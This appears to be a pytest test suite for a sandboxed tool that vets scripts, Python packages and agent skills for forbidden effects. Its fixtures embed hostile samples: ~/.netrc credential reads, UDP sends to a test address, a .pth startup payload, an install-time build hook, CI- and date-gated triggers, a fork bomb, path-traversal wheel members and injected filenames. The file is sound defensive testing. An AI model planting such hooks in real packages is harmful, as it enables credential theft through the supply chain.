"""Vetting from end to end: real targets in real worlds."""

from __future__ import annotations

import asyncio
import io
import json
import os
import tarfile
import zipfile

import pytest

from aboveboard.cli import main
from aboveboard.contract import Contract
from aboveboard.errors import AboveboardError, TargetError, UsageError
from aboveboard.vet import avet, vet
from aboveboard.vet.compare import Sameness
from aboveboard.vet.matrix import ENVIRONMENTS
from aboveboard.world import Limits

pytestmark = pytest.mark.usefixtures("world_available")

UPPER = "import sys\nopen(sys.argv[2], 'w').write(open(sys.argv[1]).read().upper())\n"
SEND = "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'{0}', ('192.0.2.7', 9999))\n"
BACKEND = """\
import os, zipfile
{hook}
INFO = "tool-1.0.dist-info"
def build_wheel(folder, settings=None, metadata=None):
    with zipfile.ZipFile(os.path.join(folder, "tool-1.0-py3-none-any.whl"), "w") as out:
        out.write("tool.py")
        out.writestr(INFO + "/METADATA", "Metadata-Version: 2.1\\nName: tool\\nVersion: 1.0\\n")
        out.writestr(INFO + "/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        out.writestr(INFO + "/RECORD", "")
    return "tool-1.0-py3-none-any.whl"
"""
PYPROJECT = """\
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "tool"
version = "1.0"
"""


@pytest.fixture
def document(tmp_path):
    path = tmp_path / "in.txt"
    path.write_text("b\na\n")
    return path


def script(folder, name, text):
    path = folder / name
    path.write_text(text)
    return str(path)


def wheel(folder, members):
    path = folder / "tool-1.0-py3-none-any.whl"
    info = "tool-1.0.dist-info"
    members = members | {
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: tool\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/RECORD": "",
    }
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return str(path)


def found(report, index=0):
    """(phase, effect, subject) of the forbidden effects of one target."""
    return {(e.phase, e.effect.name, e.effect.subject) for e in report.targets[index].forbidden}


def phases(report):
    return {entry.phase for entry in report.targets[0].forbidden}


def test_two_scripts_with_the_same_output_are_told_apart_by_what_they_did(tmp_path, document):
    honest = script(tmp_path, "honest.py", UPPER)
    curious = script(tmp_path, "curious.py", "import os\nopen(os.path.expanduser('~/.netrc')).read()\n" + UPPER)

    report = vet([honest, curious], inputs=[document])

    assert [target.verdict for target in report.targets] == ["clean", "forbidden"]
    assert [target.sameness for target in report.targets] == [Sameness.IDENTICAL] * 2
    assert found(report, 1) == {("call", "credential-read", "/home/dev/.netrc")}
    assert len(report.targets[1].only_here) == 1
    assert report.exit_code == 1


def test_each_phase_of_a_package_is_told_apart(tmp_path, document):
    """The same transmission, once in every place where a package can act."""
    module = SEND.format("import") + (
        "import atexit, os\n"
        "def send(word):\n"
        "    s.sendto(word, ('192.0.2.7', 10000 + len(word)))\n"
        "def convert(source, target):\n"
        "    open(target, 'w').write(open(source).read())\n"
        "    send(b'call')\n"
        "    atexit.register(send, b'at exit')\n"
    )
    report = vet(wheel(tmp_path, {"tool.py": module}), inputs=[document], entry="tool:convert")
    assert {(phase, subject) for phase, _, subject in found(report)} == {
        ("import", "udp:192.0.2.7:9999"),
        ("call", "udp:192.0.2.7:10004"),
        ("exit", "udp:192.0.2.7:10007"),
    }
    payload = report.targets[0].forbidden[0].payloads[0]
    assert payload.excerpt == "import"


def test_a_pth_file_acts_at_the_start_of_the_interpreter(tmp_path, document):
    line = "import os; open(os.path.expanduser('~/.netrc')).read()\n"
    path = wheel(tmp_path, {"tool.py": "def f(a, b): open(b, 'w').write('x')\n", "tool.pth": line})

    report = vet(path, inputs=[document], entry="tool:f")

    assert ("import", "credential-read", "/home/dev/.netrc") in found(report)
    assert any(".pth" in note for note in report.targets[0].notes)


def test_a_build_hook_acts_in_the_install_phase(tmp_path, document):
    hook = "open(os.path.expanduser('~/.netrc')).read()"
    path = tmp_path / "tool-1.0.tar.gz"
    members = {
        "pyproject.toml": PYPROJECT,
        "backend.py": BACKEND.format(hook=hook),
        "PKG-INFO": "Name: tool\nVersion: 1.0\n",
    }
    members["tool.py"] = "def f(a, b): open(b, 'w').write('x')\n"
    with tarfile.open(path, "w:gz") as archive:
        for name, text in members.items():
            info = tarfile.TarInfo(f"tool-1.0/{name}")
            info.size, info.mtime = len(text), 1_000_000_000
            archive.addfile(info, io.BytesIO(text.encode()))

    report = vet(str(path), inputs=[document], entry="tool:f", offline=True, requires=())

    assert found(report) == {("install", "credential-read", "/home/dev/.netrc")}
    assert report.targets[0].trials[0].output.files


def test_a_project_folder_stays_as_it_is(tmp_path, document):
    folder = tmp_path / "project"
    folder.mkdir()
    for name, text in {
        "pyproject.toml": PYPROJECT,
        "backend.py": BACKEND.format(hook=""),
        "tool.py": "X = 1\n",
    }.items():
        (folder / name).write_text(text)
    before = sorted(os.listdir(folder))

    report = vet(str(folder), inputs=[document], offline=True)

    assert report.targets[0].prepared.modules
    assert sorted(os.listdir(folder)) == before


def test_a_package_that_patches_its_neighbours_when_called_is_seen(tmp_path, document):
    module = (
        "import os\n"
        "def f(a, b):\n"
        "    open(os.path.dirname(__file__) + '/other.py', 'w').write('x = 1')\n"
        "    open(b, 'w').write('x')\n"
    )
    report = vet(wheel(tmp_path, {"tool.py": module, "other.py": "x = 0\n"}), inputs=[document], entry="tool:f")
    assert {name for _, name, _ in found(report)} == {"tool-tampering"}


def test_a_process_that_outlives_the_call_is_seen(tmp_path, document):
    text = UPPER + "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n"
    report = vet(script(tmp_path, "daemon.py", text), inputs=[document])
    assert "lingering-process" in {name for _, name, _ in found(report)}


def test_behaviour_that_waits_for_a_build_server_is_met_there_only(tmp_path, document):
    text = "import os\nif os.environ.get('CI'):\n    open(os.path.expanduser('~/.netrc')).read()\n" + UPPER
    report = vet(
        script(tmp_path, "gated.py", text), inputs=[document], environments=[ENVIRONMENTS["dev"], ENVIRONMENTS["ci"]]
    )
    assert [trial.verdict for trial in report.targets[0].trials] == ["clean", "forbidden"]
    assert [entry.environments for entry in report.targets[0].conditional if entry in report.targets[0].forbidden] == [
        ("ci",)
    ]


def test_behaviour_that_waits_for_a_date_is_met_in_the_future(tmp_path, document):
    import datetime as dt

    limit = (dt.date.today() + dt.timedelta(days=30)).isoformat()
    text = (
        "import datetime, os\n"
        f"if datetime.date.today().isoformat() > {limit!r}:\n"
        "    open(os.path.expanduser('~/.netrc')).read()\n"
    )
    report = vet(
        script(tmp_path, "late.py", text + UPPER),
        inputs=[document],
        environments=[ENVIRONMENTS["dev"], ENVIRONMENTS["future"]],
    )
    assert [trial.verdict for trial in report.targets[0].trials] == ["clean", "forbidden"]
    assert any("Python code only" in note for note in report.targets[0].notes)


def test_what_a_contract_allows_is_not_forbidden(tmp_path, document):
    text = "import os\nopen(os.path.expanduser('~/notes-of-tool'), 'w').write('x')\n" + UPPER
    path = script(tmp_path, "writer.py", text)
    wide = Contract.default().replace(write=("output/**", "~/notes-of-tool"))
    assert vet(path, inputs=[document]).verdict == "forbidden"
    assert vet(path, inputs=[document], contract=wide).verdict == "clean"


def test_a_skill_is_vetted_script_by_script_and_its_instructions_when_asked(tmp_path, document):
    folder = tmp_path / "skill"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text("# S\n\n```sh\ncat ~/.netrc\n```\n")
    (folder / "scripts" / "up.py").write_text(UPPER)

    assert vet(str(folder), inputs=[document]).verdict == "clean"
    told = vet(str(folder), inputs=[document], instructions=True)
    assert ("install", "credential-read", "/home/dev/.netrc") in found(told)


def test_a_command_is_run_as_it_is(document):
    report = vet([], command=["sort", "{input}"], inputs=[document])
    assert report.verdict == "clean"
    assert report.targets[0].trials[0].output.files == {"stdout": b"a\nb\n"}


def test_declared_outputs_of_a_clean_run_are_released_and_nothing_of_a_forbidden_one(tmp_path, document):
    honest = script(tmp_path, "honest.py", UPPER)
    curious = script(tmp_path, "curious.py", "import os\nopen(os.path.expanduser('~/.netrc')).read()\n" + UPPER)

    vet(honest, inputs=[document], release_to=tmp_path / "done")
    refused = vet(curious, inputs=[document], release_to=tmp_path / "refused")

    assert (tmp_path / "done" / "output" / "result").read_text() == "B\nA\n"
    assert refused.targets[0].released is None
    assert not (tmp_path / "refused").exists()


def test_a_target_that_hangs_is_stopped_and_doubted(tmp_path, document):
    report = vet(script(tmp_path, "hang.py", "import time\ntime.sleep(600)\n"), inputs=[document], timeout=0.5)
    assert report.verdict == "indeterminate"
    assert "target-timeout" in {reason.code for reason in report.targets[0].reasons}
    assert report.seconds < 30


def test_a_target_that_uses_up_its_world_still_gets_a_verdict(tmp_path, document):
    text = "import time\ntime.sleep(600)\n"
    report = vet(script(tmp_path, "hang.py", text), inputs=[document], limits=Limits(wall_seconds=1.0))
    assert report.verdict == "indeterminate"


def test_a_flood_of_processes_and_output_ends_in_bounds(tmp_path, document):
    text = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n    os.write(1, b'x' * 65536)\n"
    report = vet(
        script(tmp_path, "bomb.py", text),
        inputs=[document],
        timeout=3,
        limits=Limits(processes=20, output_bytes=1 << 20, wall_seconds=10),
    )
    assert report.verdict in ("indeterminate", "forbidden")


def test_a_target_that_does_nothing_right_is_not_clean(tmp_path, document):
    report = vet(script(tmp_path, "broken.py", "raise SystemExit('no')\n"), inputs=[document])
    assert report.verdict == "indeterminate"
    assert [reason.code for reason in report.targets[0].reasons] == ["target-failed"]


def test_a_wheel_that_cannot_be_imported_is_not_clean(tmp_path, document):
    report = vet(wheel(tmp_path, {"tool.py": "import missing_dependency\n"}), inputs=[document], entry="tool:f")
    assert report.verdict == "indeterminate"
    assert any("missing_dependency" in reason.detail for reason in report.targets[0].reasons)


def test_a_wheel_whose_members_climb_out_touches_nothing_outside(tmp_path, document):
    path = wheel(tmp_path, {"tool.py": "", "../../../../../../../tmp/climbed-out-of-a-wheel": "x"})
    report = vet(path, inputs=[document])
    assert not os.path.exists("/tmp/climbed-out-of-a-wheel")
    assert report.verdict != "clean"


def test_hostile_names_of_targets_and_inputs_are_no_problem(tmp_path):
    target = tmp_path / "we ird;\n$(x)\x1b[2J[a-z]*.py"
    target.write_text(UPPER)
    document = tmp_path / "-rf\n*?[x] é.txt"
    document.write_text("a")
    report = vet(str(target), inputs=[document])
    assert report.verdict == "clean"
    assert report.targets[0].trials[0].output.files == {"result": b"A"}


def test_evidence_is_kept_when_asked_for_and_never_overwritten(tmp_path, document):
    path = script(tmp_path, "honest.py", UPPER)
    report = vet(path, inputs=[document], evidence=tmp_path / "kept")
    (folder,) = report.targets[0].trials[0].evidence
    assert os.path.exists(f"{folder}/events.jsonl")
    with pytest.raises(UsageError, match="not empty"):
        vet(path, inputs=[document], evidence=tmp_path / "kept")


@pytest.mark.parametrize(
    ("options", "error"),
    [
        ({"inputs": ["missing"]}, UsageError),
        ({"entry": ["a:b", "c:d", "e:f"]}, UsageError),
        ({"way": "telepathy"}, UsageError),
        ({"output": "../up"}, UsageError),
        ({"timeout": 0}, UsageError),
        ({"jobs": 0}, UsageError),
        ({"adapter": "missing.py"}, UsageError),
        ({"contract": "missing.toml"}, AboveboardError),
    ],
)
def test_wrong_arguments_are_named_before_anything_runs(tmp_path, options, error):
    with pytest.raises(error) as caught:
        vet([script(tmp_path, "honest.py", UPPER)] * 2, **options)
    assert caught.value.exit_code == 2


def test_an_unreadable_wheel_is_named(tmp_path):
    path = tmp_path / "tool-1.0-py3-none-any.whl"
    path.write_bytes(b"PK\x03\x04 nothing more")
    with pytest.raises(TargetError, match="not a readable wheel"):
        vet(str(path))


def test_the_asynchronous_form_runs_beside_other_work(tmp_path, document):
    path = script(tmp_path, "honest.py", UPPER)

    async def both():
        return await asyncio.gather(avet(path, inputs=[document]), avet(path, inputs=[document]))

    assert [report.verdict for report in asyncio.run(both())] == ["clean", "clean"]


def test_the_command_prints_one_json_object_and_exits_with_the_verdict(tmp_path, document, capsys):
    honest = script(tmp_path, "honest.py", UPPER)
    curious = script(tmp_path, "curious.py", "import os\nopen(os.path.expanduser('~/.netrc')).read()\n" + UPPER)

    code = main(["vet", honest, curious, "--input", str(document), "--json", "--html", str(tmp_path / "r.html")])

    value = json.loads(capsys.readouterr().out)
    assert code == 1
    assert value["verdict"] == "forbidden"
    assert [target["verdict"] for target in value["targets"]] == ["clean", "forbidden"]
    assert "credential-read" in (tmp_path / "r.html").read_text()


def test_the_command_names_a_users_mistake_and_exits_2(tmp_path, capsys):
    assert main(["vet", str(tmp_path / "missing.py")]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert main(["vet"]) == 2
    assert main(["vet", "x", "--matrix", "moon"]) == 2


@pytest.mark.network
def test_the_demonstration_finds_the_probe_and_nothing_else(tmp_path, capsys):
    assert main(["demo", "--json", "--out", str(tmp_path / "evidence")]) == 0
    value = json.loads(capsys.readouterr().out)
    assert [target["verdict"] for target in value["targets"]] == ["clean", "clean", "forbidden"]
    assert {target["output"]["sameness"] for target in value["targets"]} <= {"identical", "equivalent"}
    sent = [p for effect in value["targets"][2]["effects"] for p in effect["payloads"] if p["protocol"] == "tcp"]
    assert "Mara Lindqvist" in sent[0]["excerpt"]
    assert sent[0]["canaries"]
